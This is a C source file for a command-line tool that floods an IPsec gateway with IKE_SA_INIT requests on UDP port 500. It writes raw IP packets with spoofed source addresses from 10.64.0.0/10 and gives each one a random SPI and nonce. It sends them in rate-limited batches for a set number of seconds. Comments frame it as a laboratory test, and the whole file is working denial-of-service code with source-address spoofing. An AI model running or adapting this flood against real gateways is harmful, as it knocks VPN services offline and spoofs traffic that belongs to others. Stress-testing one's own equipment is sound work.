// Floods a gateway with IKE_SA_INIT requests, each from an address that is nobody's and with an SPI and a nonce of its own.
//
//   flood ADDRESS PACKETS-PER-SECOND SECONDS
//
// Sources are in 10.64.0.0/10. Every message is one that a gateway of the laboratory would agree to (AES-128-GCM,
// PRF-HMAC-SHA2-256, X25519), and is as short as it may be, so that an answer that is longer than the question shows. Prints how
// many were sent in how many seconds.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

enum { BATCH = 64, IKE = 500 };

static const uint8_t init[] = {
    // Header: both SPIs, next payload SA, version 2.0, IKE_SA_INIT, initiator, message 0, length.
    0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 33, 0x20, 34, 0x08, 0, 0, 0, 0, 0, 0, 0, 128,
    // SA: one proposal (IKE, 3 transforms): AES-GCM-16 of 128 bits, PRF-HMAC-SHA2-256, X25519.
    34, 0, 0, 40, 0, 0, 0, 36, 1, 1, 0, 3, 3, 0, 0, 12, 1, 0, 0, 20, 0x80, 14, 0, 128, 3, 0, 0, 8, 2, 0, 0, 5, 0, 0, 0, 8, 4, 0,
    0, 31,
    // KE: X25519.
    40, 0, 0, 40, 0, 31, 0, 0, 9, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
    // Ni: 16 octets.
    0, 0, 0, 20, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0};

static struct packet {
    struct iphdr ip;
    struct udphdr udp;
    uint8_t ike[sizeof init];
} __attribute__((packed)) packets[BATCH];

static uint64_t state = 88172645463325252ULL;

static uint64_t chance(void) {
    state ^= state << 13;
    state ^= state >> 7;
    state ^= state << 17;
    return state;
}

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

int main(int argc, char **argv) {
    struct sockaddr_in to = {.sin_family = AF_INET};
    if (argc != 4 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1) {
        fprintf(stderr, "flood ADDRESS PACKETS-PER-SECOND SECONDS\n");
        return 2;
    }
    double rate = atof(argv[2]), seconds = atof(argv[3]);
    // With a raw socket the kernel fills in what is missing of the IP header, and believes the source address.
    int s = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    if (s < 0) {
        perror("flood");
        return 1;
    }
    int size = 4 << 20;
    setsockopt(s, SOL_SOCKET, SO_SNDBUFFORCE, &size, sizeof size);
    struct mmsghdr messages[BATCH] = {0};
    struct iovec parts[BATCH];
    for (int i = 0; i < BATCH; i++) {
        struct packet *p = &packets[i];
        p->ip = (struct iphdr){.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP, .daddr = to.sin_addr.s_addr};
        p->ip.tot_len = htons(sizeof *p);
        // Without a checksum, as IPv4 allows.
        p->udp = (struct udphdr){.uh_dport = htons(IKE), .uh_ulen = htons(sizeof *p - sizeof p->ip)};
        memcpy(p->ike, init, sizeof init);
        parts[i] = (struct iovec){p, sizeof *p};
        messages[i].msg_hdr = (struct msghdr){.msg_name = &to, .msg_namelen = sizeof to, .msg_iov = &parts[i], .msg_iovlen = 1};
    }
    double began = now(), at;
    long sent = 0;
    while ((at = now()) < began + seconds) {
        // What could not be sent in its time is not sent later: a burst would be another attack.
        if (sent > (at - began) * rate) {
            struct timespec rest = {0, 300000};
            nanosleep(&rest, NULL);
            continue;
        }
        for (int i = 0; i < BATCH; i++) {
            struct packet *p = &packets[i];
            uint64_t spi = chance() | 1, nonce = chance(), from = chance();
            p->ip.saddr = htonl(0x0a400000 | (from & 0x3fffff));
            p->udp.uh_sport = htons(1024 + (from >> 32) % 60000);
            memcpy(p->ike, &spi, 8);
            memcpy(p->ike + sizeof init - 16, &nonce, 8);
        }
        int n = sendmmsg(s, messages, BATCH, 0);
        if (n > 0) sent += n;
        else if (errno != ENOBUFS && errno != EAGAIN) {
            perror("flood: sendmmsg");
            return 1;
        }
    }
    printf("%ld packets in %.2f s\n", sent, now() - began);
    return 0;
}
